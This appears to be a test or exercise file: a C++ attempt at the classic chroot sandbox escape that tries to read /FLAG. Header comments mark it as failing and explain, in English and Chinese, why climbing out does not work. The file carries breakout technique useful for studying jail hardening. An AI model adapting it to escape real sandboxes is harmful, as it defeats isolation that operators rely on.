// file: escape.cpp
// fails: escape
// error: /FLAG: No such file
// says: chdir("/") after the second chroot brings the working directory inside again: only a working directory outside of the root can climb
// says-zh: 第二次 chroot 之后再 chdir("/")，工作目录又回到了里面：只有在根之外的工作目录才能往上爬

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>

namespace {

/// Makes the root outside the root of this process.
/// @return 0, or -1 with errno
int escape() {
    if ((::mkdir("below", 0700) == -1 && errno != EEXIST) || ::chroot("below") == -1 ||
        ::chdir("/") == -1) {
        return -1;
    }
    for (int i = 0; i < 1000; ++i) {
        if (::chdir("..") == -1) {
            return -1;
        }
    }
    return ::chroot(".");
}

}  // namespace

int main() {
    if (escape() != 0) {
        std::perror("escape");
        return 1;
    }
    std::FILE* flag = std::fopen("/FLAG", "re");
    if (flag == nullptr) {
        std::perror("/FLAG");
        return 1;
    }
    for (int c = std::fgetc(flag); c != EOF; c = std::fgetc(flag)) {
        std::putchar(c);
    }
    std::fclose(flag);
    return 0;
}
